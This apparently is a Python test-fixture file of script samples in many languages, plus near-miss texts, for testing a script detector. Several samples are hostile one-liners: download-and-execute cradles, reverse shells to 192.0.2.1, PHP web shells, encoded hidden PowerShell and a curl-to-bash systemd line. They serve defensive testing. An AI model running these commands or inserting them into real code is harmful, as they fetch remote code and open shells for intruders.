"""Scripts in several languages, plain and dense, and texts that only look like them."""

from __future__ import annotations

SCRIPTS: dict[str, tuple[str, ...]] = {
    "powershell": (
        "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a')",
        "$a = [Convert]::FromBase64String('AAAA'); [Reflection.Assembly]::Load($a)",
        'Write-Host "hello"\r\nGet-Process | Where-Object { $_.CPU -gt 10 }\r\n',
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAxACsAMQA7AFcAcgBpAHQAZQA=",
        "&('ne'+'w-ob'+'ject') (\"{1}{0}\" -f 'ent','Net.WebCli')",
        "function Get-Answer {\n param([int]$x)\n if ($x -eq 1) { return $true }\n}\n",
    ),
    "jscript": (
        'var a = new ActiveXObject("WScript.Shell"); a.Run("notepad");',
        (
            'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();'
            'GetObject("script:http://192.0.2.1/x")'
        ),
    ),
    "vbscript": (
        'Set s = CreateObject("WScript.Shell")\r\ns.Run "notepad.exe", 0\r\n',
        "On Error Resume Next\nDim x\nx = 1\nMsgBox x\n",
        "Execute(Chr(77) & Chr(115) & Chr(103))\r\nDim a\r\n",
    ),
    "batch": (
        "@echo off\r\nset X=1\r\nif exist c:\\x del c:\\x\r\n",
        "setlocal\r\nfor /f %%i in ('dir') do call :one %%i\r\ngoto :eof\r\n:one\r\n",
    ),
    "shell": (
        "#!/bin/sh\necho hi\n",
        "curl -s http://192.0.2.1/x.sh | bash",
        "for i in 1 2 3; do echo $i; done\n",
        "cd /tmp; wget http://192.0.2.1/a; chmod 777 a; ./a",
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "if [ -f /etc/x ]; then\n  exit 0\nfi\n",
    ),
    "python": (
        "import os\nimport sys\n\ndef main():\n    print(sys.argv)\n",
        "import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',1));os.dup2(s.fileno(),0)",
        "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))",
        "#!/usr/bin/env python3\npass\n",
    ),
    "perl": (
        'use strict;\nmy $x = shift;\nprint "$x\\n";\n',
        "perl -e 'use Socket;$i=\"192.0.2.1\";socket(S,PF_INET,SOCK_STREAM,6);'",
        'use Socket;$p=9;connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("sh");',
    ),
    "php": ('<?php system($_GET["c"]); ?>', "<?=`$_GET[0]`?>"),
    "javascript": (
        'const x = require("fs"); console.log(x.readFileSync("a").toString());',
        (
            '!function(e,t){"use strict";var n=t.x;e.y=function(r){return'
            " r===n?1:2}}(window,document);"
        ),
    ),
    "ruby": (
        (
            "require 'socket'\nclass A\n  def run\n    [1].each do |x|\n      puts"
            " x\n    end\n  end\nend\n"
        ),
    ),
    "lua": (
        "local function f(x)\n  return x\nend\nlocal y = f(1)\n",
        'local s=require("socket");local f=assert(io.popen(r,"r"));print(f:read("*a"));',
    ),
    "awk": ('BEGIN { FS = ":" }\n$3 > 999 { print $1 }\n',),
    "sct": (
        (
            '<?XML version="1.0"?><scriptlet><registration progid="x"><script language="JScript">'
            '<![CDATA[ new ActiveXObject("WScript.Shell").Run("notepad"); ]]></script>'
            "</registration>"
            "</scriptlet>"
        ),
    ),
    "hta": (
        (
            '<html><head><HTA:APPLICATION ID="x"></head><script language="VBScript">'
            'CreateObject("WScript.Shell").Run "notepad"</script></html>'
        ),
    ),
    "script": ("#!/usr/bin/tclsh\nputs hello\n",),
}

#: Text that quotes, names or resembles scripts.
NEAR_MISSES: tuple[str, ...] = (
    "Use Get-Process to list processes, then import the data and echo it to the user.\n" * 4,
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
    "%SystemRoot%\\system32\\cmd.exe /c start notepad.exe",
    "@%SystemRoot%\\system32\\shell32.dll,-123",
    "{6bdd1fc6-810f-11d0-bec7-08002be2092f}",
    "v2.10|Action=Allow|Active=TRUE|Dir=In|Protocol=6|App=System|Name=@FirewallAPI.dll,-28756|",
    "# Title\n\nSome text.\n\n```sh\nif [ -f x ]; then echo $(cat x); fi\n```\n",
    "[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c 'curl http://x | sh'\n",
    '{"script": "$x = 1; Get-Process | iex", "n": [1, 2]}',
    "Nov 22 04:00:01 host cron[12]: (root) CMD (curl http://192.0.2.1/x | bash)\n" * 20,
    '<?xml version="1.0"?><a><b c="d">function(x) { return; }</b></a>',
    (
        "#include <stdio.h>\n\nstatic int x(void) {\n\treturn 1;\n}\n\nint"
        " main(void)\n{\n\treturn x();\n}\n"
    ),
    "body { color: red; }\n.a { margin: 0 auto; }\n",
    "SELECT a FROM b WHERE c = 1;\nINSERT INTO b VALUES (1);\n",
    "function of the local import is to print use sub class end",
)
